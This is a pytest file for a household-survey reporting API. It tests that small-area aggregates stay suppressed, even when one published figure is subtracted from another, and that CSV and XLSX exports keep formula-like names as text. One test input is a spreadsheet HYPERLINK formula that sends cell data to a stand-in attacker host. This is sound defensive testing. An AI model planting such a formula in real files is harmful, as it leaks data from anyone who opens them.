"""Aggregates never describe fewer households than the small-area threshold to roles
without personal-data rights (not even by subtracting one published figure from another),
and exported files never turn someone's text into a live formula."""
import csv
import io
import zipfile

import pytest
from sqlalchemy import select

from app.areas.models import Area
from app.areas.queries import get_area, get_lao
from app.auth.models import Role
from app.extensions import db
from app.units import Unit
from survey import planning, reports
from survey.reports import SUPPRESSED_TH
from tests.fixtures.survey import OTHER_VILLAGE, VILLAGE

REPORTS = "/api/v1/reports"


def submit(client, headers, body):
    response = client.post("/api/v1/households", headers=headers, json=body)
    assert response.status_code == 201, response.json
    return body


@pytest.fixture
def one_and_five(client, enumerator, auth_header, household_payload):
    """One household in VILLAGE (a small area), five in OTHER_VILLAGE."""
    headers = auth_header(enumerator)
    alone = household_payload(1)
    alone["answers"].update({"22.1.1": 123_457, "22.1.2": 0, "22.1.3": 0, "22.1.4": 0})
    submit(client, headers, alone)
    five = [submit(client, headers, household_payload(seed, village_code=OTHER_VILLAGE))
            for seed in range(2, 7)]
    return alone, five


def get(client, headers, path):
    response = client.get(f"{REPORTS}/{path}", headers=headers)
    assert response.status_code == 200, response.json
    return response.json


def test_a_single_household_is_not_shown_to_a_viewer(client, make_user, auth_header,
                                                     one_and_five):
    alone, _ = one_and_five
    viewer = auth_header(make_user(Role.VIEWER, area_code="65"))
    report = get(client, viewer, f"income-expense?round=2565&area={VILLAGE}")
    assert report["suppressed"] is True and report["households"] is None
    assert "income" not in report and "123457" not in str(report)
    population = get(client, viewer, f"population?round=2565&area={VILLAGE}")
    assert population["suppressed"] is True and "people_by_sex_age" not in population
    # An officer with personal-data rights sees the village exactly.
    officer = auth_header(make_user(Role.DISTRICT_OFFICER, area_code="6501"))
    exact = get(client, officer, f"income-expense?round=2565&area={VILLAGE}")
    assert exact["income"]["sum"] == 123_457 and exact["small_areas"]["threshold"] == 0


@pytest.mark.parametrize("role, scope", [(Role.VIEWER, {"area_code": "65"}),
                                         (Role.PROVINCE_OFFICER, {"area_code": "65"}),
                                         (Role.DEPARTMENT_ADMIN, {})])
def test_no_difference_of_published_figures_isolates_the_small_village(
        client, make_user, auth_header, one_and_five, role, scope):
    _, five = one_and_five
    headers = auth_header(make_user(role, **scope))
    lao = get_lao(get_area(VILLAGE).lao_code).code
    queries = ["area=650102&breakdown=true", f"lao={lao}&breakdown=true",
               "area=6501&breakdown=true", "area=65"] + ([""] if not scope else [])
    for query in queries:
        report = get(client, headers, f"income-expense?round=2565&{query}")
        # Every published total covers exactly the five households of OTHER_VILLAGE.
        assert report["households"] == 5, query
        assert report["small_areas"]["households"] == 1, query
        assert report["income"]["sum"] == get(
            client, headers, f"income-expense?round=2565&area={OTHER_VILLAGE}")["income"]["sum"]
        for row in report.get("breakdown", []):
            if row["code"] == VILLAGE:
                assert row["suppressed"] is True and "income" not in row
    people = sum(len(b["members"]) for b in five)
    population = get(client, headers, "population?round=2565&area=650102&breakdown=true")
    shown = [row for row in population["breakdown"] if not row.get("suppressed")]
    assert population["people"] == people == sum(row["people"] for row in shown)


@pytest.fixture
def far_province(client, make_user, auth_header, survey_round, household_payload):
    """Two households in a village of province 75 (a small area under the threshold 5)."""
    village = db.session.scalar(select(Area.code).where(
        Area.level == "village", Area.code.startswith("75")).order_by(Area.code).limit(1))
    enumerator = make_user(Role.ENUMERATOR, area_code=village[:6])
    planning.assign(survey_round, enumerator, get_area(village))
    db.session.commit()
    for seed in (11, 12):
        submit(client, auth_header(enumerator),
               household_payload(seed, village_code=village, house_code=None))
    return village


def test_national_and_province_reports_equal_the_sums_of_their_villages(
        client, make_user, auth_header, survey_round, one_and_five, far_province,
        monkeypatch):
    """The nation and a province are summed from district rows: every report, whole and by
    child area, answers what the village rows give — for the department admin and a viewer
    (neither has personal-data rights, so small villages are left out and counted), for a
    certification snapshot (nothing left out), and after the threshold changes."""
    callers = {"admin": auth_header(make_user(Role.DEPARTMENT_ADMIN)),
               "viewer": auth_header(make_user(Role.VIEWER))}
    paths = [f"{kind}?round=2565{area}&breakdown={breakdown}"
             for kind in ("population", "indicators", "income-expense")
             for area in ("", "&area=65", "&area=75") for breakdown in ("true", "false")]

    def answers():
        return {(who, path): get(client, headers, path) for who, headers in callers.items()
                for path in paths}

    def from_villages():
        with monkeypatch.context() as m:
            m.setattr(reports, "_from_districts", lambda *args: False)
            return answers()

    def unsuppressed(unit):
        whole, children = reports.totals(survey_round, unit, breakdown=True)
        return whole, [(area.code, t) for area, t in children]

    from_districts = answers()
    assert from_districts == from_villages()
    for who in callers:
        nation = from_districts[(who, "population?round=2565&breakdown=true")]
        assert nation["households"] == 5 and nation["small_areas"] == {
            "threshold": 5, "households": 3, "villages": 2}
        assert [(row["code"], row.get("suppressed", False))
                for row in nation["breakdown"]] == [("65", False), ("75", True)]
    for unit in (Unit.nation(), Unit.of_area(get_area("65"))):
        whole = unsuppressed(unit)
        with monkeypatch.context() as m:
            m.setattr(reports, "_from_districts", lambda *args: False)
            assert unsuppressed(unit) == whole
    assert unsuppressed(Unit.nation())[0].households == 8
    # A lower threshold publishes the village of two households at once.
    planning.create_round(2565, "2560-2564", survey_round.collection_start,
                          survey_round.collection_end, min_area_households=2)
    db.session.commit()
    from_districts = answers()
    assert from_districts == from_villages()
    nation = from_districts[("viewer", "population?round=2565&breakdown=false")]
    assert nation["households"] == 7 and nation["small_areas"]["villages"] == 1


def test_exports_carry_the_suppression(client, make_user, auth_header, one_and_five):
    viewer = auth_header(make_user(Role.VIEWER, area_code="65"))
    text = client.get(f"{REPORTS}/income-expense?round=2565&area=650102&breakdown=true"
                      "&format=csv", headers=viewer).get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    small = [row for row in rows[1:] if row[0] == VILLAGE]
    assert small == [[VILLAGE, get_area(VILLAGE).name_th, SUPPRESSED_TH]]
    assert "123457" not in text


FORMULA = '=HYPERLINK("http://evil.example/?d="&H3,"คลิก")'


def sheet_xml(response) -> str:
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as book:
        return "".join(book.read(name).decode() for name in book.namelist()
                       if name.startswith("xl/worksheets/") or name == "xl/sharedStrings.xml")


def test_a_name_that_looks_like_a_formula_stays_text(client, make_user, enumerator,
                                                     auth_header, household_payload):
    body = household_payload(8)
    body["members"][0]["first_name"] = FORMULA
    body["answers"].update({"22.1.1": 1000, "22.1.2": 0, "22.1.3": 0, "22.1.4": 0})
    submit(client, auth_header(enumerator), body)
    officer = auth_header(make_user(Role.DISTRICT_OFFICER, area_code="6501"))
    url = f"{REPORTS}/income-failing?round=2565&area={VILLAGE}"
    xml = sheet_xml(client.get(url + "&format=xlsx", headers=officer))
    assert "<f>" not in xml and "HYPERLINK" in xml
    text = client.get(url + "&format=csv", headers=officer).get_data(as_text=True)
    names = [row[-2] for row in csv.reader(io.StringIO(text.lstrip("\ufeff")))][1:]
    assert names == ["'" + FORMULA + " " + body["members"][0]["last_name"]]


def test_register_names_that_look_like_formulas_stay_text(client, make_user, enumerator,
                                                          auth_header, household_payload):
    district = auth_header(make_user(Role.DISTRICT_OFFICER, area_code="6501"))
    lao = get_lao(get_area(VILLAGE).lao_code)
    register = ("village_code,kind,name_th,subdistrict_code,lao_code,lao_type,lao_name_th\n"
                f'{VILLAGE},village,"=1+2",650102,{lao.code},{lao.type},{lao.name_th}\n')
    assert client.post("/api/v1/area-register", headers=district, data={
        "file": (io.BytesIO(register.encode()), "r.csv")}).status_code == 200
    submit(client, auth_header(enumerator), household_payload(9))
    url = f"{REPORTS}/population?round=2565&area=650102&breakdown=true"
    xml = sheet_xml(client.get(url + "&format=xlsx", headers=district))
    assert "<f>" not in xml and "=1+2" in xml
    text = client.get(url + "&format=csv", headers=district).get_data(as_text=True)
    assert ",'=1+2," in text and ",=1+2," not in text
